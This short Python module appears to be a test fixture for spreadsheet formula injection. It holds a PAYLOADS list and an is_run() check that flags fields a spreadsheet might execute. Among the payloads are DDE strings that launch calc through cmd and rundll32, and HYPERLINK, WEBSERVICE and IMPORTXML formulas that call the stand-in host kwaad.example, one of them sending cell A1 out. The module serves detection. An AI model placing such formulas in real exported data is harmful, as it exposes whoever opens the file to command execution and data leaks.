"""Texts that a spreadsheet might run, and how one sees that it would."""

import re

# Signs that stand before a formula for some spreadsheet, as readers leave out what is unseen.
_BEFORE = re.compile(r"[\s\u200b-\u200f\u2060\ufeff]*")
_SIGNS = tuple("=+-@＝＋－＠")
_NUMBER = re.compile(r"-?\d+(?:,\d+)?")

_STARTS = [
    f"{sign}{rest}"
    for sign in _SIGNS
    for rest in (
        "1+1",
        "SUM(A1:A9)",
        "cmd|'/C calc'!A0",
        'HYPERLINK("http://kwaad.example";"klik")',
    )
]
_HIDDEN = [
    f"{before}=1+1"
    for before in (" ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u2009", "\u3000", "\u200b",
                   "\ufeff", "\u2060", " \t ", "'", "''", "' ", "'\t")
]  # fmt: skip
_OTHERS = [
    "=", "+", "-", "@", "==1", "=-1", "+-1", "-+1", "=(1)", "={1;2}", "=A1", "=$A$1", "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0", "+2+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://kwaad.example?";A1);"//a")', '=WEBSERVICE("http://kwaad.example")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    '"=1+1', '"=1+1"', '="1"', "=1;2", "=1,2", "=1\n+2", "=1\r\n=2", "eerst\n=1+1", "eerst\r\n@SUM(1)",
    ";=1+1", '";=1+1', '"\n=1+1', "=x_x0041_", "=_x003D_1", "=<b>1</b>", "=1&2", "=‘1’", "=é",
    "=TRUE", "=#REF!", "#REF!", "#N/A", "-5", "+31 gemeenten", "- een streepje", "@gemeente",
]  # fmt: skip
PAYLOADS = list(dict.fromkeys([*_STARTS, *_HIDDEN, *_OTHERS]))


def is_run(field):
    """Whether a spreadsheet might run this field; a number is a number."""
    if _NUMBER.fullmatch(field):
        return False
    return field.startswith(("\t", "\r", "\n")) or _BEFORE.sub("", field, 1).startswith(_SIGNS)
